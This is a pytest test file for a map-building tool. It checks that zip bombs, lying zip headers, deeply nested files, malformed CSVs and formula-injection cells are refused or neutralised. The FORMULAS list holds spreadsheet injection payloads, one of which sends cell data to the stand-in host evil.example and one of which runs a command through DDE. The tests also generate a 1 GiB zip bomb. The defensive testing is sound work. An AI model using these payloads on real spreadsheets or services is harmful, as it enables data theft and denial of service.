"""Hostile and broken input files: bounded reading, one clear line, nothing damaged silently.

Every attack is generated here (no payload files are committed). A malformed
input must end in one ``Error:`` naming the file and the problem, exit 1 or 2,
and no traceback (the CLI runs with ``catch_exceptions=False``, so any
uncaught exception fails the test). Per-row problems go into the report.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import time
import tracemalloc
import zipfile
from pathlib import Path
from xml.etree import ElementTree as ET

import pandas as pd
import pytest
from click.testing import CliRunner
from zip_bombs import bomb_member

from civicmap import settings
from civicmap.cli import main
from civicmap.errors import SourceError
from civicmap.sources import opendata, vector

DATA = Path(__file__).resolve().parents[1] / "data"
TOYAMA = DATA / "childcare" / "toyama" / "toyama_nurseryFacilities_utf8bom.csv"
BBOX = "[139.69, 35.69, 139.72, 35.72]"
KML_HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n<kml xmlns="http://www.opengis.net/kml/2.2">'


def cli(*args: str):
    return CliRunner().invoke(main, list(args), catch_exceptions=False)


def error_of(res, *, codes=(1, 2)) -> str:
    """The error text of a failed run; asserts one error, the exit code, no traceback."""
    assert res.exit_code in codes, res.output
    assert "Traceback" not in res.output
    lines = res.output.splitlines()
    starts = [i for i, line in enumerate(lines) if line.startswith("Error:")]
    assert len(starts) == 1, res.output
    # a ConfigError lists its problems under the one Error: line
    tail = [line for line in lines[starts[0] + 1 :] if line.startswith("  - ")]
    return "\n".join([lines[starts[0]], *tail])


def make_map(
    folder: Path,
    source: str,
    *,
    outputs: str = "{geojson: {file: out/map.geojson}}",
    popup: str | None = None,
    osm: str | None = None,
) -> Path:
    """A map with one inline layer reading ``source`` (a YAML flow mapping)."""
    layer = (
        f"{{id: x, title: {{ja: X, en: X}}, sources: [{source}], "
        f'style: {{color: "#d6336c", symbol: circle}}'
        + (f", popup: {json.dumps(popup)}" if popup is not None else "")
        + "}"
    )
    text = (
        f"title: 攻撃テスト\narea: {{bbox: {BBOX}}}\nbasemap: {{draw: false}}\n"
        + (f"osm: {osm}\n" if osm else "")
        + f"layers:\n  - {layer}\noutputs: {outputs}\n"
    )
    (folder / "map.yaml").write_text(text, encoding="utf-8")
    return folder / "map.yaml"


def report_rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))


# --- 1. bounded reading -------------------------------------------------------


@pytest.fixture(scope="module")
def zip_bomb(tmp_path_factory) -> Path:
    """A 1 MB KMZ whose doc.kml unpacks to 1 GiB of whitespace (valid XML if unpacked)."""
    path = tmp_path_factory.mktemp("bomb") / "bomb.kmz"
    chunk = b" " * (1 << 24)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        with bomb_member(zf, "doc.kml") as f:  # the 16 MB chunk deflated once, not 64 times
            f.write(KML_HEAD.encode() + b"<Document>")
            for _ in range(64):
                f.write(chunk)
            f.write(b"</Document></kml>")
    assert path.stat().st_size < 1_200_000
    return path


def test_zip_bomb_is_refused_quickly_without_unpacking(zip_bomb):
    tracemalloc.start()
    t0 = time.perf_counter()
    try:
        with pytest.raises(SourceError) as err:
            vector.read_kml(zip_bomb, layer="x")
        elapsed = time.perf_counter() - t0
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    msg = str(err.value)
    assert "bomb.kmz" in msg and "zip bomb" in msg and "doc.kml" in msg
    assert peak < 50e6, f"{peak / 1e6:.0f} MB allocated while refusing the bomb"
    assert elapsed < 5


def test_zip_bomb_through_the_cli_is_one_line(zip_bomb, tmp_path):
    shutil.copy(zip_bomb, tmp_path / "bomb.kmz")
    mapfile = make_map(tmp_path, "{kml: {path: bomb.kmz}}")
    err = error_of(cli("build", str(mapfile)))
    assert "bomb.kmz" in err and "zip bomb" in err
    assert not (tmp_path / "out").exists() or not any((tmp_path / "out").iterdir())


def _kml_points(n: int, *, extra: str = "") -> str:
    marks = "".join(
        f"<Placemark><name>点{i}</name>{extra}<Point><coordinates>"
        f"{139.70 + i * 1e-4},{35.70 + i * 1e-4}</coordinates></Point></Placemark>"
        for i in range(n)
    )
    return f"{KML_HEAD}<Document><Folder><name>F</name>{marks}</Folder></Document></kml>"


def test_zip_member_over_the_size_limit_is_refused(tmp_path, monkeypatch):
    kml = _kml_points(2000)
    path = tmp_path / "big.kmz"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("doc.kml", kml)
    assert len(vector.read_kml(path, layer="x").features) == 2000  # within the default limits
    monkeypatch.setattr(settings, "max_zip_member_bytes", 50_000)
    with pytest.raises(SourceError, match=r"big\.kmz: doc\.kml would unpack to"):
        vector.read_kml(path, layer="x")


def test_zip_whose_header_lies_about_the_size_gives_a_clear_error(tmp_path):
    """Sizes patched in the zip headers (the kind that overflowed): one error, no traceback."""
    path = tmp_path / "lie.kmz"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("doc.kml", _kml_points(300))
    raw = bytearray(path.read_bytes())
    real = zipfile.ZipFile(path).getinfo("doc.kml").file_size
    for sig, off in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):  # local / central header
        at = raw.index(sig) + off
        assert int.from_bytes(raw[at : at + 4], "little") == real
        raw[at : at + 4] = (100).to_bytes(4, "little")
    path.write_bytes(bytes(raw))
    mapfile = make_map(tmp_path, "{kml: {path: lie.kmz}}")
    err = error_of(cli("build", str(mapfile)))
    assert "lie.kmz" in err


def test_zip_claiming_an_impossible_size_is_refused(tmp_path):
    """A zip64 header claiming 2**63 bytes (sizes past C integers overflowed before)."""
    path = tmp_path / "huge.kmz"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("doc.kml", _kml_points(10))
        zf.filelist[0].file_size = 2**63 + 5  # written into the central directory (zip64)
    assert zipfile.ZipFile(path).getinfo("doc.kml").file_size == 2**63 + 5
    mapfile = make_map(tmp_path, "{kml: {path: huge.kmz}}")
    err = error_of(cli("build", str(mapfile)))
    assert "huge.kmz: doc.kml would unpack to" in err and "zip bomb" in err


@pytest.mark.parametrize("kind", ["dev_zero", "fifo", "folder"])
def test_only_regular_files_are_read(tmp_path, kind):
    if kind == "dev_zero":
        if not Path("/dev/zero").exists():
            pytest.skip("no /dev/zero on this system")
        target, expect = "/dev/zero", "character device"
    elif kind == "fifo":
        if not hasattr(os, "mkfifo"):
            pytest.skip("no FIFOs on this system")
        os.mkfifo(tmp_path / "pipe.csv")
        target, expect = "pipe.csv", "named pipe"
    else:
        (tmp_path / "dir.csv").mkdir()
        target, expect = "dir.csv", "a folder"
    mapfile = make_map(tmp_path, f"{{csv: {{path: {target}}}}}")
    err = error_of(cli("build", str(mapfile)))
    assert expect in err and Path(target).name in err and "not a data file" in err


def test_input_larger_than_the_setting_is_refused(tmp_path, monkeypatch):
    shutil.copy(TOYAMA, tmp_path / "toyama.csv")
    monkeypatch.setattr(settings, "max_input_bytes", 10_000)
    with pytest.raises(SourceError) as err:
        opendata.read_csv(tmp_path / "toyama.csv", layer="x")
    assert "toyama.csv" in str(err.value) and "max_input_bytes" in str(err.value)


def test_deeply_nested_kml_folders_give_an_error_not_recursion(tmp_path):
    depth = 20_000
    kml = (
        KML_HEAD
        + "<Document>"
        + "<Folder><name>f</name>" * depth
        + "<Placemark><Point><coordinates>139.7,35.7</coordinates></Point></Placemark>"
        + "</Folder>" * depth
        + "</Document></kml>"
    )
    (tmp_path / "deep.kml").write_text(kml, encoding="utf-8")
    mapfile = make_map(tmp_path, "{kml: {path: deep.kml}}")
    err = error_of(cli("build", str(mapfile)))
    assert "deep.kml" in err and "nested more than" in err


def test_moderately_nested_real_kml_still_reads(tmp_path):
    """The limit is far from real files: 30 nested folders read fine."""
    kml = (
        KML_HEAD
        + "<Document>"
        + "<Folder><name>f</name>" * 30
        + "<Placemark><name>a</name><Point><coordinates>139.7,35.7</coordinates></Point>"
        + "</Placemark>"
        + "</Folder>" * 30
        + "</Document></kml>"
    )
    (tmp_path / "ok.kml").write_text(kml, encoding="utf-8")
    assert len(vector.read_kml(tmp_path / "ok.kml", layer="x").features) == 1


@pytest.mark.parametrize("depth", [150, 200_000])
def test_deeply_nested_json_gives_an_error_not_recursion(tmp_path, depth):
    coords = "[" * depth + "139.7, 35.7" + "]" * depth
    text = (
        '{"type": "FeatureCollection", "features": [{"type": "Feature", "properties": '
        '{"name": "a"}, "geometry": {"type": "Point", "coordinates": ' + coords + "}}]}"
    )
    (tmp_path / "deep.geojson").write_text(text, encoding="utf-8")
    mapfile = make_map(tmp_path, "{geojson: {path: deep.geojson}}")
    err = error_of(cli("build", str(mapfile)))
    assert "deep.geojson" in err and "nested more than" in err


# --- 2. malformed inputs: one line each ----------------------------------------


def _points_csv(path: Path, names: list[str], *, at: tuple[float, float] = (35.70, 139.70)) -> None:
    with path.open("w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(["名称", "住所", "緯度", "経度"])
        for i, n in enumerate(names):
            w.writerow([n, f"新宿区{i}", at[0] + i * 1e-4, at[1] + i * 1e-4])


def test_csv_field_over_128_kb_names_the_line(tmp_path):
    _points_csv(tmp_path / "big.csv", ["a", "x" * 200_000, "c"])
    mapfile = make_map(tmp_path, "{csv: {path: big.csv}}")
    err = error_of(cli("build", str(mapfile)))
    assert "big.csv: line 3:" in err and "field longer than" in err


def test_csv_stray_quote_in_a_big_file_names_where_the_field_starts(tmp_path):
    names = [f"施設{i}" for i in range(4000)]
    names[10] = '"施設10'  # an opening quote never closed
    _points_csv(tmp_path / "q.csv", names)
    text = (tmp_path / "q.csv").read_text(encoding="utf-8").replace('"""施設10"', '"施設10')
    (tmp_path / "q.csv").write_text(text, encoding="utf-8")
    mapfile = make_map(tmp_path, "{csv: {path: q.csv}}")
    err = error_of(cli("build", str(mapfile)))
    assert "q.csv: line 12:" in err and "stray quote" in err


def test_csv_stray_quote_in_a_small_file_does_not_swallow_rows_silently(tmp_path):
    (tmp_path / "q.csv").write_text(
        "名称,住所,緯度,経度\n"
        "一,新宿区1,35.700,139.700\n"
        '"二,新宿区2,35.701,139.701\n'
        "三,新宿区3,35.702,139.702\n"
        "四,新宿区4,35.703,139.703\n",
        encoding="utf-8",
    )
    mapfile = make_map(tmp_path, "{csv: {path: q.csv}}")
    err = error_of(cli("build", str(mapfile)))
    assert "q.csv: line 3:" in err and "swallows 2 row(s)" in err


def test_quoted_multiline_cells_are_still_fine(tmp_path):
    (tmp_path / "m.csv").write_text(
        '名称,住所,緯度,経度,備考\n一,新宿区1,35.700,139.700,"一行目\n二行目"\n'
        "二,新宿区2,35.701,139.701,なし\n",
        encoding="utf-8",
    )
    res = opendata.read_csv(tmp_path / "m.csv", layer="x")
    assert list(res.features["name"]) == ["一", "二"]


def _kml(placemarks: str) -> str:
    return f"{KML_HEAD}<Document><Folder><name>F</name>{placemarks}</Folder></Document></kml>"


@pytest.mark.parametrize(
    ("name", "text", "expect"),
    [
        ("nogeom.kml", _kml("<Placemark><name>a</name></Placemark>"), "none of the 1 feature"),
        ("empty.kml", _kml(""), "no placemark or feature"),
        (
            "nogeom.umap",
            json.dumps(
                {
                    "type": "umap",
                    "layers": [
                        {
                            "_umap_options": {"name": "L"},
                            "features": [{"type": "Feature", "properties": {}, "geometry": None}],
                        }
                    ],
                }
            ),
            "none of the 1 feature",
        ),
        (
            "empty.umap",
            json.dumps({"type": "umap", "layers": [{"_umap_options": {"name": "L"}}]}),
            "no placemark or feature",
        ),
    ],
)
def test_files_with_no_usable_feature_say_so(tmp_path, name, text, expect):
    (tmp_path / name).write_text(text, encoding="utf-8")
    mapfile = make_map(tmp_path, f"{{file: {{path: {name}}}}}")
    err = error_of(cli("build", str(mapfile)))
    assert name in err and expect in err


def test_mixed_multigeometry_and_geometrycollection_are_drawn(tmp_path):
    (tmp_path / "mixed.kml").write_text(
        _kml(
            "<Placemark><name>混在</name><MultiGeometry>"
            "<Point><coordinates>139.700,35.700</coordinates></Point>"
            "<LineString><coordinates>139.700,35.700 139.710,35.710</coordinates></LineString>"
            "</MultiGeometry></Placemark>"
        ),
        encoding="utf-8",
    )
    gc = {
        "type": "FeatureCollection",
        "features": [
            {
                "type": "Feature",
                "properties": {"name": "集合"},
                "geometry": {
                    "type": "GeometryCollection",
                    "geometries": [
                        {"type": "Point", "coordinates": [139.705, 35.705]},
                        {"type": "LineString", "coordinates": [[139.70, 35.70], [139.71, 35.70]]},
                    ],
                },
            }
        ],
    }
    (tmp_path / "gc.geojson").write_text(json.dumps(gc), encoding="utf-8")
    mapfile = make_map(
        tmp_path,
        "{kml: {path: mixed.kml}}, {geojson: {path: gc.geojson}}",
        outputs="{web: {file: out/map.html}, kml: {file: out/map.kml}}",
    )
    res = cli("build", str(mapfile))
    assert res.exit_code == 0, res.output
    page = (tmp_path / "out" / "map.html").read_text(encoding="utf-8")
    block = page.split('id="civicmap-data">', 1)[1].split("</script>", 1)[0]
    data = json.loads(block)
    shapes = [s for layer in data["layers"] for s in layer["shapes"]]
    assert [s["type"] for s in shapes] == ["GeometryCollection", "GeometryCollection"]
    assert {g["type"] for s in shapes for g in s["geometries"]} == {"Point", "LineString"}
    ET.parse(tmp_path / "out" / "map.kml")  # the export is valid XML


def test_nan_and_inf_coordinates_are_rejected_per_row(tmp_path):
    feats = [
        ("ok", [139.705, 35.705]),
        ("nan", [float("nan"), 35.70]),
        ("inf", [139.70, float("inf")]),
    ]
    gj = {
        "type": "FeatureCollection",
        "features": [
            {
                "type": "Feature",
                "properties": {"name": n},
                "geometry": {"type": "Point", "coordinates": c},
            }
            for n, c in feats
        ],
    }
    (tmp_path / "p.geojson").write_text(json.dumps(gj), encoding="utf-8")  # writes NaN/Infinity
    (tmp_path / "p.kml").write_text(
        _kml(
            "<Placemark><name>ok2</name><Point><coordinates>139.706,35.706</coordinates></Point>"
            "</Placemark><Placemark><name>nan2</name><Point><coordinates>nan,35.7</coordinates>"
            "</Point></Placemark><Placemark><name>inf2</name><Point><coordinates>139.7,inf"
            "</coordinates></Point></Placemark>"
        ),
        encoding="utf-8",
    )
    (tmp_path / "p.osm").write_text(
        '<?xml version="1.0" encoding="UTF-8"?>\n<osm version="0.6" generator="test">\n'
        '<node id="1" lat="nan" lon="139.70" version="1"><tag k="amenity" v="kindergarten"/>'
        '<tag k="name" v="NaN園"/></node>\n'
        '<node id="2" lat="35.70" lon="inf" version="1"><tag k="amenity" v="kindergarten"/></node>\n'
        '<node id="3" lat="35.705" lon="139.705" version="1"><tag k="amenity" v="kindergarten"/>'
        '<tag k="name" v="ふつう園"/></node>\n'
        '<node id="4" lat="35.706" lon="139.706" version="1"/>\n</osm>\n',
        encoding="utf-8",
    )
    mapfile = make_map(tmp_path, "{geojson: {path: p.geojson}}, {kml: {path: p.kml}}")
    text = mapfile.read_text(encoding="utf-8").replace(
        "layers:\n", "osm: {file: p.osm}\nlayers:\n  - childcare\n"
    )
    mapfile.write_text(text, encoding="utf-8")
    res = cli("build", str(mapfile), "--report", str(tmp_path / "report.csv"))
    assert res.exit_code == 0, res.output
    rows = report_rows(tmp_path / "report.csv")
    rejected = {
        (r["layer"], r["source"], r["row"]): r["reason"] for r in rows if r["kind"] == "rejected"
    }
    assert set(rejected) == {
        ("x", "p.geojson", "2"),
        ("x", "p.geojson", "3"),
        ("x", "p.kml", "2"),
        ("x", "p.kml", "3"),
        ("childcare", "p.osm", "node/1"),
        ("childcare", "p.osm", "node/2"),
    }
    assert all("not" in r and ("finite" in r or "usable" in r) for r in rejected.values())
    out = json.loads((tmp_path / "out" / "map.geojson").read_text(encoding="utf-8"))
    names = sorted(f["properties"]["name"] for f in out["features"])
    assert names == ["ok", "ok2", "ふつう園"]


def test_popup_template_fills_field_names_only(tmp_path):
    _points_csv(tmp_path / "p.csv", ["{name.__class__}", "二"])
    mapfile = make_map(
        tmp_path,
        "{csv: {path: p.csv}}",
        outputs="{web: {file: out/map.html}}",
        popup="{name[x]} / {name.__class__.__mro__} / {name} ({住所}) {{literal}}",
    )
    res = cli("build", str(mapfile))
    assert res.exit_code == 0, res.output
    page = (tmp_path / "out" / "map.html").read_text(encoding="utf-8")
    data = json.loads(page.split('id="civicmap-data">', 1)[1].split("</script>", 1)[0])
    popups = sorted(f["p"] for layer in data["layers"] for f in layer["features"])
    # unknown fields (no such column) are blank; a value is inserted once, never evaluated
    assert popups == [" /  / {name.__class__} (新宿区0) {literal}", " /  / 二 (新宿区1) {literal}"]
    assert "<class" not in page


def test_popup_template_with_an_unmatched_brace_is_a_config_error(tmp_path):
    _points_csv(tmp_path / "p.csv", ["一"])
    mapfile = make_map(
        tmp_path, "{csv: {path: p.csv}}", outputs="{web: {file: out/map.html}}", popup="{name"
    )
    err = error_of(cli("build", str(mapfile)), codes=(2,))
    assert "popup" in err and "unmatched" in err


def test_over_long_qr_url_is_refused(tmp_path):
    _points_csv(tmp_path / "p.csv", ["一"])
    url = "https://example.org/map?" + "q" * 3000
    mapfile = make_map(
        tmp_path, "{csv: {path: p.csv}}", outputs=f"{{paper: {{file: out/map.pdf, qr: '{url}'}}}}"
    )
    err = error_of(cli("build", str(mapfile)), codes=(2,))
    assert "outputs.paper.qr" in err and "shorter URL" in err
    assert not (tmp_path / "out" / "map.pdf").exists()


@pytest.mark.parametrize(
    ("outputs", "expect"),
    [
        ('{geojson: {file: ""}}', "outputs.geojson.file: got ''"),
        ("{geojson: {file: out/}}", "outputs.geojson.file: got 'out/'"),
        (
            "{geojson: {file: out/a}, kml: {file: out/a}, umap: {file: ./out/../out/a}}",
            "is also written by outputs.geojson.file",
        ),
        ("{paper: {file: out/m.pdf, png: true}, web: {file: out/m.png}}", "is also written by"),
    ],
)
def test_bad_output_names_are_refused_at_check_and_build(tmp_path, outputs, expect):
    _points_csv(tmp_path / "p.csv", ["一"])
    mapfile = make_map(tmp_path, "{csv: {path: p.csv}}", outputs=outputs)
    for cmd in ("check", "build"):
        err = error_of(cli(cmd, str(mapfile)), codes=(2,))
        assert expect in err and "map.yaml" in err
    assert not (tmp_path / "out").exists()


# --- 3. data damaged without a word ------------------------------------------


@pytest.fixture
def mixed_csv(tmp_path) -> tuple[Path, int, pd.DataFrame]:
    raw = TOYAMA.read_bytes()
    lines = raw.split(b"\n")
    bad_line = 6  # 1-based physical line: the 5th data row
    lines[bad_line - 1] = lines[bad_line - 1].decode("utf-8").encode("cp932")
    path = tmp_path / "mixed.csv"
    path.write_bytes(b"\n".join(lines))
    expected = pd.read_csv(TOYAMA, encoding="utf-8-sig", dtype=str)
    return path, bad_line, expected


def test_mixed_encoding_csv_keeps_every_row_and_reports_the_repaired_line(mixed_csv):
    path, bad_line, expected = mixed_csv
    res = opendata.read_csv(path, layer="x")
    plain = opendata.read_csv(TOYAMA, layer="x")
    # same rows and names as the clean file: nothing rejected for the wrong reason
    assert list(res.features["name"]) == list(plain.features["name"])
    assert len(res.rejected) == len(plain.rejected)
    assert expected["Name"].iloc[4] in set(res.features["name"])
    repaired = [p for p in res.repaired if str(p.row).startswith("line")]
    assert [(p.source, p.row) for p in repaired] == [("mixed.csv", f"line {bad_line}")]
    assert "cp932" in repaired[0].reason


def test_check_reports_the_repaired_line(mixed_csv):
    path, bad_line, _ = mixed_csv
    res = cli("check", str(path))
    assert res.exit_code == 0, res.output
    assert f"line {bad_line}" in res.output and "cp932" in res.output


def test_control_characters_are_removed_reported_and_kml_stays_valid(tmp_path):
    dirty = "NUL\x00保育\x1b[31m園\x07"
    _points_csv(tmp_path / "c.csv", [dirty, "ふつう"])
    mapfile = make_map(
        tmp_path,
        "{csv: {path: c.csv}}",
        outputs="{kml: {file: out/map.kml}, geojson: {file: out/map.geojson}}",
    )
    res = cli("build", str(mapfile), "--report", str(tmp_path / "r.csv"))
    assert res.exit_code == 0, res.output
    root = ET.parse(tmp_path / "out" / "map.kml").getroot()  # valid XML
    names = {el.text for el in root.iter("{http://www.opengis.net/kml/2.2}name")}
    assert "NUL保育[31m園" in names
    gj = (tmp_path / "out" / "map.geojson").read_text(encoding="utf-8")
    assert "\\u0000" not in gj and "\\u001b" not in gj
    rows = [r for r in report_rows(tmp_path / "r.csv") if r["kind"] == "repaired"]
    assert [(r["source"], r["row"]) for r in rows] == [("c.csv", "c.csv:1")]
    assert "control characters" in rows[0]["reason"]


def test_file_of_nul_bytes_is_a_binary_file_not_zero_rows(tmp_path):
    (tmp_path / "zeros.csv").write_bytes(b"\x00" * 4096)
    err = error_of(cli("check", str(tmp_path / "zeros.csv")))
    assert "zeros.csv" in err and "binary file" in err
    (tmp_path / "zeros.geojson").write_bytes(b"\x00" * 4096)
    err = error_of(cli("check", str(tmp_path / "zeros.geojson")))
    assert "zeros.geojson" in err and "binary file" in err


# --- 4. spreadsheet CSVs never carry formulas ---------------------------------


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def test_diff_csv_neutralises_formula_cells(tmp_path):
    osm = DATA / "osm" / "SmallAroundWaseda.osm.bz2"
    # inside the extract's area, away from its nurseries (so they stay "only_official")
    _points_csv(tmp_path / "official.csv", FORMULAS, at=(35.7045, 139.7040))
    (tmp_path / "map.yaml").write_text(
        "title: 差分\narea: {bbox: [139.7031784, 35.7039554, 139.7098839, 35.7093917], buffer: 300}\n"
        f"osm: {{file: {osm}}}\nbasemap: {{draw: false}}\n"
        "layers:\n  - use: childcare\n    extra_sources: [{csv: {path: official.csv}}]\n",
        encoding="utf-8",
    )
    res = cli("diff", str(tmp_path / "map.yaml"), "--out", str(tmp_path / "out"))
    assert res.exit_code == 0, res.output
    text = (tmp_path / "out" / "map_diff.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    official = {r["name_official"] for r in rows if r["name_official"]}
    # names are stripped of surrounding blanks when read, so the tab/CR ones become "=1+1"
    assert official == {"'" + f.strip() for f in FORMULAS}
    for r in rows:
        for col, value in r.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")) or _is_number(value), (
                col,
                value,
            )
    # the GeoJSON keeps the names unchanged (it is not opened by spreadsheets)
    geo = json.loads((tmp_path / "out" / "map_diff.geojson").read_text(encoding="utf-8"))
    assert {f["properties"]["name_official"] for f in geo["features"]} >= {
        f.strip() for f in FORMULAS
    }


def test_tab_and_cr_cells_get_the_quote_too_and_numbers_stay_numbers():
    from civicmap._files import spreadsheet_cell

    assert spreadsheet_cell("\t=1+1") == "'\t=1+1"
    assert spreadsheet_cell("\r=1+1") == "'\r=1+1"
    assert spreadsheet_cell("大久保=1") == "大久保=1"
    assert spreadsheet_cell(-139.7) == -139.7


def _is_number(value: str) -> bool:
    try:
        float(value)
        return True
    except ValueError:
        return False


def test_rejected_rows_csv_of_check_neutralises_formulas(tmp_path):
    path = tmp_path / "bad.csv"
    path.write_text("名称,緯度,経度\n=1+1,abc,139.7\n", encoding="utf-8")
    res = cli("check", str(path), "--rejected", str(tmp_path / "rej.csv"))
    assert res.exit_code == 0, res.output
    cells = [
        c
        for row in csv.reader(io.StringIO((tmp_path / "rej.csv").read_text("utf-8-sig")))
        for c in row
    ]
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells), cells


def test_control_characters_are_found_in_every_text_dtype():
    """object and pandas' string dtypes alike; the input frame is left unchanged (pure)."""
    from civicmap.sources._guard import clean_text_columns

    frame = pd.DataFrame(
        {
            "name": pd.Series(["a\x00b", "ok"], dtype="string"),
            "note": pd.Series(["fine", "x\x1by"], dtype=object),
            "n": [1, 2],
            "source_ref": ["f.csv:1", "f.csv:2"],
        }
    )
    out, problems = clean_text_columns(frame, source="f.csv")
    assert list(out["name"]) == ["ab", "ok"] and list(out["note"]) == ["fine", "xy"]
    assert frame.loc[0, "name"] == "a\x00b"
    assert sorted((p.row, p.reason.rsplit(" ", 1)[-1]) for p in problems) == [
        ("f.csv:1", "name"),
        ("f.csv:2", "note"),
    ]
